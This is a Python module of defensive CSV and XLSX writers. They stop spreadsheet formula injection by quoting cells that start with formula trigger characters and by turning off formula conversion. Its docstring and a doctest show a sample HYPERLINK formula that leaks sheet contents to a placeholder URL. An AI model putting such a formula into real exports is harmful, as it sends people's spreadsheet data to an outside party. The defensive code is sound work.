"""CSV and XLSX writers that never let a cell become a formula.

A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel and LibreOffice (``=HYPERLINK("http://…?"&A1, "click")`` leaks the sheet). Agency exports carry
such strings, by accident or on purpose; every file contextsafe writes passes its text cells through
:func:`safe_cell`, which prefixes a single quote as OWASP advises.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from pathlib import Path

import polars as pl

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """Neutralise a text cell that a spreadsheet would run as a formula.

    >>> safe_cell('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> safe_cell("-12.5"), safe_cell("Camden")
    ('-12.5', 'Camden')
    """
    if isinstance(value, str) and value.startswith(_TRIGGERS) and not _is_number(value):
        return "'" + value
    return value


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every string column made safe (vectorised)."""
    pattern = r"^[=+\-@\t\r]"
    number = r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$"
    return frame.with_columns([
        pl.when(pl.col(c).str.contains(pattern) & ~pl.col(c).str.contains(number))
        .then(pl.lit("'") + pl.col(c)).otherwise(pl.col(c)).alias(c)
        for c, dtype in frame.schema.items() if dtype == pl.String])


def write_csv(path: Path, frame: pl.DataFrame | None = None, *, header: Sequence[str] | None = None,
              rows: Iterable[Sequence[object]] | None = None) -> Path:
    """Write a CSV (UTF-8 with BOM so Excel reads accents) with every cell made safe."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if frame is not None:
        safe_frame(frame).write_csv(path, include_bom=True)
        return path
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header or [])
        for row in rows or []:
            writer.writerow([safe_cell(v) for v in row])
    return path


def write_xlsx(path: Path, frame: pl.DataFrame, sheet: str = "data") -> Path:
    """Write an XLSX whose text cells are stored as strings, never as formulas."""
    import xlsxwriter

    path.parent.mkdir(parents=True, exist_ok=True)
    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
    try:
        sheet_obj = book.add_worksheet(sheet[:31])
        for col, name in enumerate(frame.columns):
            sheet_obj.write_string(0, col, name)
        for r, row in enumerate(frame.iter_rows(), start=1):
            for col, value in enumerate(row):
                if value is None:
                    continue
                if isinstance(value, str):
                    sheet_obj.write_string(r, col, str(safe_cell(value)))
                else:
                    sheet_obj.write(r, col, value)
    finally:
        book.close()
    return path
